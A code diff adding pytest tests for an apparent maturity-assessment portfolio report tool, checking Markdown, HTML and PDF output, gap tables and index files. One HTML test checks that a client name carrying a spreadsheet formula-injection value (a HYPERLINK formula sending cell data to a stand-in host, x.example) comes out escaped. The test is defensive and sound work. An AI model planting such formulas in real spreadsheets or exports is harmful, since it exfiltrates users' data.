@@ -230,3 +230,92 @@ def test_a_workbook_needs_an_output_file(firms: Path) -> None:
     assert err == (
         "error: the xlsx format needs an output file: give -o FILE (it cannot go to the terminal).\n"
     )
+
+
+# --- maturity portfolio ---------------------------------------------------------------------------
+
+
+def test_portfolio_markdown_counts_each_firm_once_by_hand(firms: Path) -> None:
+    out = firms.parent / "portfolio.md"
+    code, _, err = run("portfolio", firms, "-o", out)
+    assert code == 0, err
+    text = out.read_text(encoding="utf-8")
+    assert "6 organisations (7 assessments; only the latest of each counts)" in text
+    assert "| ≤ L1 | 50% | 69% | 63% |\n| L2 | 50% | 15% | 21% |\n| L3 | – | 7% | 12% |" in text
+    assert "| Design | 1.50 | 6 |" in text
+    assert "| Delta | 2 | 2 | N/A | 2 |" in text  # tailored: N/A, never 0
+    # gaps up to the target level 3: L3 missed by all six (b by five: Delta tailored it out);
+    # L2 by the three firms at level 1 (counting Twice's 2025 file would make it four)
+    gaps = [line for line in text.splitlines() if line.startswith("| `")]
+    assert [(g.split("|")[1].strip(" `"), g.split("|")[5].strip()) for g in gaps[:7]] == [
+        ("a.3.01", "6"),
+        ("c.3.01", "6"),
+        ("b.3.01", "5"),
+        ("a.2.01", "3"),
+        ("b.2.01", "3"),
+        ("b.2.02", "3"),
+        ("c.2.01", "3"),
+    ]
+    # the shared actions: the advice of the common gaps that have one
+    assert (
+        "| Do c.3.01 | Low | `c.3.01` | 6 |" in text
+        and "| Do b.3.01 | High | `b.3.01` | 5 |" in text
+    )
+    assert "| Twice | 2 | 2.00 | 2026-11-20 | firm5.pdf |" in text
+
+
+def test_portfolio_html_escapes_client_names_and_links_the_reports(firms: Path) -> None:
+    out = firms.parent / "portfolio.html"
+    code, _, err = run("portfolio", firms, "-o", out, "--reports", "html", lang="zh")
+    assert code == 0, err
+    html = out.read_text(encoding="utf-8")
+    assert "<h1>智能制造能力成熟度组合报告</h1>" in html
+    assert "<td>=HYPERLINK(&#34;http://x.example/?&#34;&amp;A2,&#34;x&#34;)</td>" in html
+    assert FORMULA not in html
+    assert '<a href="firm3.html">firm3.html</a>' in html
+    assert '<td class="num na">不适用</td>' in html
+    assert '<td class="num lv2">2</td>' in html
+
+
+def test_portfolio_pdf_has_the_figures_in_its_text(firms: Path) -> None:
+    import shutil
+    import subprocess
+
+    if shutil.which("pdftotext") is None:
+        pytest.skip("pdftotext (poppler-utils) is not installed")
+    out = firms.parent / "portfolio.pdf"
+    code, _, err = run("portfolio", firms, "-o", out)
+    assert code == 0, err
+    text = subprocess.run(
+        ["pdftotext", "-layout", str(out), "-"], capture_output=True, text=True, check=True
+    ).stdout
+    assert "6 organisations (7 assessments; only the latest of each counts)" in text
+    assert "Most common gaps" in text and "Index of the client reports" in text
+    info = subprocess.run(["pdfinfo", str(out)], capture_output=True, text=True, check=True).stdout
+    pages = int(next(line for line in info.splitlines() if line.startswith("Pages:")).split()[1])
+    assert 2 <= pages <= 4  # portrait summary, the landscape heat map, gaps and index
+
+
+def test_report_dir_writes_an_escaped_index(firms: Path) -> None:
+    out = firms.parent / "reports"
+    code, _, err = run("report", firms, "-o", out, "-f", "html")
+    assert code == 0, err
+    html = (out / "index.html").read_text(encoding="utf-8")
+    assert html.count("<tr><td><a href=") == 7  # every report, the 2025 one too
+    assert (
+        '<tr><td><a href="firm3.html">firm3.html</a></td><td>Delta</td>'
+        '<td class="num lv2">2</td><td class="num">2.00</td><td>2026-11-20</td></tr>'
+    ) in html
+    assert "&#34;x.example" in html.replace("http://", "") and FORMULA not in html
+    assert sorted(p.name for p in out.iterdir() if not p.name.startswith("firm")) == [
+        "index.html",
+        "twice-2025.html",
+    ]  # no temporary file left behind
+
+
+def test_a_report_named_index_does_not_collide_with_the_index(firms: Path) -> None:
+    (firms / "firm0.yaml").rename(firms / "index.yaml")
+    out = firms.parent / "reports"
+    assert run("report", firms, "-o", out, "-f", "html")[0] == 0
+    html = (out / "index.html").read_text(encoding="utf-8")
+    assert '<a href="index-yaml.html">index-yaml.html</a></td><td>Alpha</td>' in html
